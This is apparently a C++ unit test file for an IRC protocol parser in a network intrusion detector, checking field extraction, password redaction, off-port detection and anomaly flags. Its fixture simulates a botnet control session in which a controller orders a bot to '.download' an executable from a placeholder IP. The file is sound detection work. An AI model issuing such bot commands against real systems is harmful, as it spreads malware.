// SPDX-License-Identifier: Apache-2.0
#include <string>
#include <vector>

#include <gtest/gtest.h>

#include "tests/detectors/protocols/protocol_driver.h"

namespace persandian::protocols {
namespace {

const std::vector<Turn> bot = {
    client("PASS rahasia\r\nNICK bot17\r\nUSER bot 8 * :Real Name\r\n"),
    server(":irc 001 bot17 :Welcome\r\n"),
    client("JOIN #c key\r\n"),
    server(":tuan!t@h PRIVMSG #c :.download http://203.0.113.1/x.exe\r\n"),
};

TEST(Irc, WhoSpeaksWhereIsTold) {
    ProtocolDriver driver(6, 6667);
    driver.converse(bot);
    ASSERT_EQ(driver.count(), 4U);
    EXPECT_EQ(driver.text(0, "irc.command"), "NICK");
    EXPECT_EQ(driver.text(1, "irc.user"), "bot");
    EXPECT_EQ(driver.text(1, "irc.text"), "Real Name");
    EXPECT_EQ(driver.text(2, "irc.target"), "#c");
    EXPECT_EQ(driver.text(2, "irc.text"), "") << "the key of the channel";
    EXPECT_EQ(driver.text(3, "irc.command"), "PRIVMSG");
    EXPECT_EQ(driver.text(3, "irc.sender"), "tuan!t@h");
    EXPECT_EQ(driver.text(3, "irc.text"), ".download http://203.0.113.1/x.exe");
    EXPECT_EQ(driver.text(3, "irc.nick"), "bot17");
    for (const std::string& line : driver.lines())
        EXPECT_EQ(line.find("rahasia"), std::string::npos) << line;
}

TEST(Irc, SplitsDoNotMatter) {
    expect_split_invariance(6667, bot);
}

TEST(Irc, FoundOnAnyPort) {
    ProtocolDriver driver(6, 4433);
    driver.converse(bot);
    EXPECT_EQ(driver.app_proto(), "irc");
    EXPECT_EQ(driver.anomalies(), "foreign_port");
}

TEST(Irc, OtherLineProtocolsAreNotTaken) {
    for (const char* other :
         {"USER budi\r\nPASS x\r\n", "EHLO nick\r\n", "NICK\r\n", "PASS x\r\nSTAT\r\n"}) {
        ProtocolDriver driver(6, 2121);
        driver.converse({client(other)});
        EXPECT_NE(driver.app_proto(), "irc") << other;
    }
}

TEST(Irc, PasswordOfAnOperatorIsLeftOut) {
    ProtocolDriver driver(6, 6667);
    driver.converse({client("NICK a\r\nOPER budi rahasia\r\n")});
    ASSERT_EQ(driver.count(), 2U);
    EXPECT_EQ(driver.lines()[1].find("rahasia"), std::string::npos);
}

TEST(Irc, LongLinesAreCutAndSaid) {
    ProtocolDriver driver(6, 6667);
    driver.converse({client("NICK a\r\nPRIVMSG #c :" + std::string(5000, 'x') + "\r\n")});
    EXPECT_EQ(driver.anomalies(), "line_too_long");
    EXPECT_LT(driver.text(2, "irc.text").size(), 2048U);
}

TEST(Irc, GapGoesOnWithTheNextLine) {
    ProtocolDriver driver(6, 6667);
    driver.send(client("NICK a\r\nJOIN #lo"));
    driver.lose(flow::Direction::to_server, 10);
    driver.send(client("st\r\nJOIN #kept\r\n"));
    EXPECT_EQ(driver.text(1, "irc.target"), "#kept");
}

TEST(Irc, WhatIsNoIrcIsGivenUp) {
    ProtocolDriver driver(6, 6667);
    std::string odd = "NICK a\r\n";
    for (int i = 0; i < 20; ++i) odd += "\x01\x02\x03\r\n";
    driver.converse({client(odd)});
    EXPECT_EQ(driver.anomalies(), "not_irc");
}

TEST(Irc, StartTlsIsProbedAnew) {
    ProtocolDriver driver(6, 6667);
    driver.send(client("CAP LS\r\nNICK a\r\nSTARTTLS\r\n"));
    driver.send(server(":irc 670 a :STARTTLS successful\r\n"));
    EXPECT_FALSE(driver.done());
    driver.send(client("JOIN #not-read\r\n"));
    EXPECT_EQ(driver.count(), 1U);
}

}  // namespace
}  // namespace persandian::protocols
